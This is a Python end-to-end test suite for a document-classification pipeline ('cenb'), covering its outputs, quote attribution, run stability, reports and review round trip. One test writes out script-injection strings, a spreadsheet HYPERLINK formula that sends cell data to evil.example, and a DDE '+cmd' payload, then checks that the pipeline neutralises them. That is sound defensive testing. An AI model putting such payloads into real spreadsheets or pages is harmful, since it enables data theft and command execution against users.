"""End to end: `cenb run corpus/raw --out OUT` on the sample corpus, twice, then the review
round trip (apply -> retrain -> re-run), and the HTML report rendered in headless Chromium.

Runs with a temporary params.yaml: labels/ and models/ are temporary copies (a review writes
labels/confirmed/ there, never into the repository); the extraction/embedding cache is the
project's (content-addressed, so sharing it only saves time).
"""

from __future__ import annotations

import csv
import html as htmllib
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from pipeline import PROJECT_ROOT
from pipeline.report.areas import AREAS

pytestmark = pytest.mark.slow

CORPUS = PROJECT_ROOT / "corpus" / "raw"
MANIFEST = PROJECT_ROOT / "corpus" / "manifest.csv"
SCREENSHOTS = PROJECT_ROOT / "reports" / "screenshots"


def _corpus_files() -> list[str]:
    return sorted(p.relative_to(CORPUS).as_posix() for p in CORPUS.rglob("*")
                  if p.is_file() and not any(part.startswith(".") for part in
                                             p.relative_to(CORPUS).parts))


if not _corpus_files():  # pragma: no cover - the sample corpus ships with the repository
    pytest.skip("corpus/raw holds no sample contributions", allow_module_level=True)


def cenb(*args: str, check: bool = True) -> subprocess.CompletedProcess:
    exe = Path(sys.executable).with_name("cenb")
    cmd = [str(exe)] if exe.exists() else [sys.executable, "-m", "pipeline.cli"]
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "TRANSFORMERS_OFFLINE": "1"}
    proc = subprocess.run(cmd + list(args), capture_output=True, text=True, env=env,
                          timeout=900)
    if check and proc.returncode != 0:
        raise AssertionError(f"cenb {' '.join(args)} exited {proc.returncode}:\n"
                             f"{proc.stdout}\n{proc.stderr}")
    return proc


def _read_jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line]


def _committed_model(settings) -> None:
    """The project's committed model: the e2e tests run what `make demo` ships."""
    shutil.copytree(PROJECT_ROOT / "models", settings.models_dir, dirs_exist_ok=True)


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    """A temporary params.yaml (own labels/ and models/), a trained model, two runs."""
    from pipeline.config import load_settings

    root = tmp_path_factory.mktemp("e2e")
    shutil.copytree(PROJECT_ROOT / "labels", root / "labels",
                    ignore=shutil.ignore_patterns("confirmed"))
    base = load_settings()
    raw = yaml.safe_load((PROJECT_ROOT / "params.yaml").read_text(encoding="utf-8"))
    raw["paths"].update({
        "labels_dir": str(root / "labels"), "models_dir": str(root / "models"),
        "cache_dir": str(base.cache_dir), "interim_dir": str(root / "interim"),
        "processed_dir": str(root / "processed"), "reports_dir": str(root / "reports"),
        "eval_dev": str(base.eval_dev), "mlflow_tracking_uri": f"sqlite:///{root}/mlruns.db",
    })
    params = root / "params.yaml"
    params.write_text(yaml.safe_dump(raw, sort_keys=False), encoding="utf-8")
    settings = load_settings(params)
    _committed_model(settings)
    runs = []
    for name in ("run1", "run2"):
        out = root / name
        proc = cenb("run", str(CORPUS), "--out", str(out), "--params", str(params), "--quiet")
        runs.append((out, proc))
    return {"root": root, "params": params, "settings": settings, "runs": runs}


def test_outputs_follow_the_contract(env):
    out, proc = env["runs"][0]
    assert proc.returncode == 0
    for name in ("paragraphs.jsonl", "quarantine.jsonl", "report.html", "report.docx",
                 "review.xlsx", "run.json"):
        assert (out / name).is_file(), name
    paras = _read_jsonl(out / "paragraphs.jsonl")
    quarantine = _read_jsonl(out / "quarantine.jsonl")
    assert paras
    from pipeline.taxonomy_keys import CHALLENGE_KEYS, STAKEHOLDER_KEYS

    for p in paras:
        for key in ("source_file", "contributor", "page", "paragraph", "text", "challenges",
                    "challenge_scores", "stakeholders", "stakeholder_scores",
                    "is_policy_option", "option_group"):
            assert key in p, key
        assert set(p["challenge_scores"]) == set(CHALLENGE_KEYS)
        assert set(p["stakeholder_scores"]) == set(STAKEHOLDER_KEYS)
        assert set(p["challenges"]) <= set(CHALLENGE_KEYS)
        assert all(0.0 <= v <= 1.0 for v in p["challenge_scores"].values())
        assert isinstance(p["is_policy_option"], bool)
    for q in quarantine:
        assert set(q) >= {"source_file", "reason", "detail"} and q["detail"]
    # every input file ends up in exactly one of the two
    with_text = {p["source_file"] for p in paras}
    quarantined = {q["source_file"] for q in quarantine}
    assert not (with_text & quarantined)
    assert with_text | quarantined == set(_corpus_files())
    run = json.loads((out / "run.json").read_text())
    c = run["counts"]
    assert c["files_seen"] == len(_corpus_files())
    assert c["files_with_text"] == len(with_text) and c["files_quarantined"] == len(quarantined)
    assert c["paragraphs"] == len(paras)
    for stage in ("extract", "classify", "group", "total"):
        assert stage in run["timings"]
    # the summary names the files to open
    assert "report.html" in proc.stdout and "review.xlsx" in proc.stdout


def test_quotes_are_verbatim_and_attributed_to_the_right_contributor(env):
    out, _ = env["runs"][0]
    paras = _read_jsonl(out / "paragraphs.jsonl")
    by_id = {p["paragraph_id"]: p for p in paras}
    manifest = {row["file"]: row["contributor"] for row in
                csv.DictReader(MANIFEST.open(encoding="utf-8"))} if MANIFEST.exists() else {}
    for p in paras:
        if p["source_file"] in manifest:
            assert p["contributor"] == manifest[p["source_file"]]
    page = (out / "report.html").read_text(encoding="utf-8")
    # each quote: <q>text</q> ... — contributor, <a href="#src-PID">...; or the blockquote form
    pattern = re.compile(r'(?:<q>|<blockquote[^>]*>“)(.*?)(?:</q>|”</blockquote>)\s*'
                         r'(?:<div class="attr">|<span class="attr">)— '
                         r'<span class="who">(.*?)</span>(?: <span class="org">\((.*?)\)</span>)?, '
                         r'<a href="#src-(p-[0-9a-f]+)">', re.S)
    found = pattern.findall(page)
    assert len(found) >= 10
    run = json.loads((out / "run.json").read_text())
    assert len(found) == run["counts"]["quotes"]
    assert run["counts"]["quotes_dropped"] == 0
    for text, who, org, pid in found:
        text, who, org = htmllib.unescape(text), htmllib.unescape(who), htmllib.unescape(org)
        source = by_id[pid]
        assert text in source["text"]                # verbatim from the extracted paragraph
        assert who == source["contributor"]          # attributed to its own contributor
        expected_org = source["organisation"] if source["organisation"] != who else None
        assert org == (expected_org or "")
    # option_group links paragraphs to groups that exist in the report
    groups = {p["option_group"] for p in paras if p["option_group"]}
    assert groups and all(f'id="{g}"' in page for g in groups)


def test_groups_and_ids_are_stable_across_runs(env):
    (out1, _), (out2, _) = env["runs"]
    a = {p["paragraph_id"]: p["option_group"] for p in _read_jsonl(out1 / "paragraphs.jsonl")}
    b = {p["paragraph_id"]: p["option_group"] for p in _read_jsonl(out2 / "paragraphs.jsonl")}
    assert a == b
    strip = lambda s: re.sub(r"generated \S+ \S+|\d{4}-\d{2}-\d{2} \d{2}:\d{2}", "", s)  # noqa
    assert strip((out1 / "report.html").read_text()) == strip((out2 / "report.html").read_text())


def test_docx_footnotes_attribute_options_to_their_contributors(env):
    from docx import Document
    from docx.oxml.ns import qn

    from pipeline.report.docx_report import contribution_of, read_footnotes

    out, _ = env["runs"][0]
    paras = _read_jsonl(out / "paragraphs.jsonl")
    notes = read_footnotes(out / "report.docx")
    assert notes
    doc = Document(str(out / "report.docx"))
    items = [p for p in doc.paragraphs if p.style.name == "List Number"]
    assert items
    for item in items:
        refs = [int(r.get(qn("w:id"))) for r in item._p.iter(qn("w:footnoteReference"))]
        assert len(refs) == 1
        parts = notes[refs[0]].rstrip(".").split("; ")
        assert all(part.startswith("Contribution of ") for part in parts)
        # the item's wording is a sentence of a paragraph by one of the named contributors
        assert any(item.text in p["text"] and any(
            part == contribution_of(p["contributor"], p["organisation"]) for part in parts)
            for p in paras)


def _chromium() -> str | None:
    for name in ("chromium", "chromium-browser"):
        path = shutil.which(name)
        if path:
            return path
    return None


@pytest.mark.skipif(_chromium() is None,
                    reason="Debian's chromium is not installed (`make sysdeps` installs it)")
def test_report_renders_in_headless_chromium(env, tmp_path):
    out, _ = env["runs"][0]
    url = (out / "report.html").resolve().as_uri()
    flags = [_chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
             "--no-first-run", "--disable-background-networking", "--disable-component-update",
             "--disable-sync", f"--user-data-dir={tmp_path / 'chromium'}"]
    dom = subprocess.run(flags + ["--dump-dom", url], capture_output=True, text=True,
                         timeout=120, check=True).stdout
    for area in AREAS:
        assert f'id="area-{area.key}"' in dom
        assert htmllib.escape(area.heading, quote=False) in dom
    assert "<svg" in dom and 'class="heat"' in dom
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    shot = SCREENSHOTS / "report.png"
    if shot.exists():
        shot.unlink()
    subprocess.run(flags + [f"--screenshot={shot}", "--window-size=1280,2000", url],
                   capture_output=True, timeout=120, check=True)
    assert shot.is_file() and shot.stat().st_size > 30_000
    from PIL import Image

    with Image.open(shot) as im:
        assert im.size == (1280, 2000)
        colours = im.convert("RGB").resize((64, 100)).getcolors(maxcolors=100_000)
        assert colours is not None and len(colours) > 50   # not a blank page


def test_dvc_stage_commands_give_the_same_report(env):
    """`cenb extract` -> `cenb classify` -> `cenb report` (the DVC stages) = `cenb run`."""
    root, params = env["root"], str(env["params"])
    interim, processed, out = root / "interim", root / "processed", root / "staged"
    cenb("extract", str(CORPUS), "--out", str(interim), "--params", params, "--quiet")
    cenb("classify", "--interim", str(interim), "--out", str(processed), "--params", params,
         "--quiet")
    proc = cenb("report", "--interim", str(interim), "--processed", str(processed), "--out",
                str(out), "--params", params, "--quiet")
    assert "report.html" in proc.stdout
    run1 = env["runs"][0][0]
    staged = {p["paragraph_id"]: (p["challenges"], p["option_group"])
              for p in _read_jsonl(out / "paragraphs.jsonl")}
    direct = {p["paragraph_id"]: (p["challenges"], p["option_group"])
              for p in _read_jsonl(run1 / "paragraphs.jsonl")}
    assert staged == direct
    run = json.loads((out / "run.json").read_text())
    assert run["command"] == "cenb report" and run["counts"]["quotes_dropped"] == 0
    page = (out / "report.html").read_text()
    assert "corpus/raw/2017-bpf-" in page           # links to the submitted files


REALDOCS = PROJECT_ROOT.parent / "shared" / "realdocs" / "files"
BROKEN = ("constructed-truncated.docx", "constructed-zero-byte.pdf", "constructed-zip-bomb.docx",
          "docling-paper-page-aes128-password.pdf")


def test_quarantined_and_hostile_files(env, tmp_path):
    """Broken files are quarantined (exit 0), hostile text stays text in every output."""
    from openpyxl import load_workbook

    src = tmp_path / "in"
    src.mkdir()
    for name in _corpus_files()[:2]:
        shutil.copy(CORPUS / name, src / Path(name).name)
    broken = [n for n in BROKEN if (REALDOCS / n).is_file()]
    (src / "broken").mkdir()
    for name in broken:
        shutil.copy(REALDOCS / name, src / "broken" / name)
    (src / "hostile <b>x.txt").write_text(
        "Submitted by: Eve <script>alert('who')</script>\n\n"
        "<script>alert(1)</script> Governments should require operators to filter spoofed "
        "traffic and publish how they do it.\n\n"
        '=HYPERLINK("http://evil.example/?d="&A1,"Click")\n\n'
        "+cmd|' /C calc'!A0 and @SUM(1) are not formulas here.\n", encoding="utf-8")
    out = tmp_path / "out"
    proc = cenb("run", str(src), "--out", str(out), "--params", str(env["params"]), "--quiet")
    assert proc.returncode == 0
    quarantine = _read_jsonl(out / "quarantine.jsonl")
    assert {q["source_file"] for q in quarantine} == {f"broken/{n}" for n in broken}
    paras = _read_jsonl(out / "paragraphs.jsonl")
    assert {p["source_file"] for p in paras} == {
        Path(n).name for n in _corpus_files()[:2]} | {"hostile <b>x.txt"}
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "<script" not in page.lower() and "<b>x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "hostile &lt;b&gt;x.txt" in page
    for q in quarantine:
        assert f">{q['reason']}<" in page
    wb = load_workbook(out / "review.xlsx")
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@"))
                    texts.append(cell.value)
    assert any(t.startswith("'=HYPERLINK(") for t in texts)
    run = json.loads((out / "run.json").read_text())
    assert run["counts"]["files_quarantined"] == len(broken)
    assert run["counts"]["files_seen"] == 3 + len(broken)


def test_review_round_trip_apply_retrain_rerun(env):
    from openpyxl import load_workbook

    from pipeline.classify.labels import load_labels
    from pipeline.classify.train import train_model

    out, _ = env["runs"][1]
    params, settings = env["params"], env["settings"]
    sheet = out / "review.xlsx"
    wb = load_workbook(sheet)
    ws = wb["Groups"]
    header = [c.value for c in ws[1]]
    first_group = ws.cell(row=2, column=1).value
    ws.cell(row=2, column=header.index("decision") + 1).value = "accept"
    wp = wb["Paragraphs"]
    pheader = [c.value for c in wp[1]]
    relabel_pid = wp.cell(row=2, column=1).value
    wp.cell(row=2, column=pheader.index("decision") + 1).value = "relabel"
    wp.cell(row=2, column=pheader.index("relabel_to") + 1).value = "awareness_capacity"
    wb["README"]["B4"].value = "E2E Reviewer"
    wb.save(sheet)

    applied = cenb("review", "apply", str(sheet), "--params", str(params))
    assert "E2E Reviewer" in applied.stdout
    files = list((settings.labels_dir / "confirmed").glob("*.jsonl"))
    assert len(files) == 1
    rows = _read_jsonl(files[0])
    assert relabel_pid in {r["paragraph_id"] for r in rows}
    assert cenb("review", "apply", str(sheet), "--params", str(params)).returncode == 0
    assert len(list((settings.labels_dir / "confirmed").glob("*.jsonl"))) == 1  # idempotent

    # retrain: the confirmed rows are part of the training set
    labels = load_labels(settings.labels_dir)
    assert {r.paragraph_id for r in labels.rows if r.source != "seed"} >= {relabel_pid}
    train_model(settings, log_mlflow=False, progress=False, cross_validation=False)

    # re-run: decisions survive, the reviewed sheet is kept, a new one is written beside it
    proc = cenb("run", str(CORPUS), "--out", str(out), "--params", str(params), "--quiet")
    assert "was kept" in proc.stdout
    assert load_workbook(sheet)["README"]["B4"].value == "E2E Reviewer"
    new_sheets = sorted(out.glob("review-*.xlsx"))
    assert len(new_sheets) == 1
    paras = {p["paragraph_id"]: p for p in _read_jsonl(out / "paragraphs.jsonl")}
    assert paras[relabel_pid]["challenges"] == ["awareness_capacity"]
    assert paras[relabel_pid]["label_source"] == "review"
    nw = load_workbook(new_sheets[0])["Paragraphs"]
    nh = [c.value for c in nw[1]]
    prefilled = {r[0].value: r[nh.index("decision")].value for r in nw.iter_rows(min_row=2)}
    assert prefilled[relabel_pid] == "relabel"
    assert first_group  # the accepted group's members are confirmed
    accepted = [r for r in rows if r.get("group_id") == first_group]
    assert accepted and all(paras[r["paragraph_id"]]["label_source"] == "review"
                            for r in accepted)
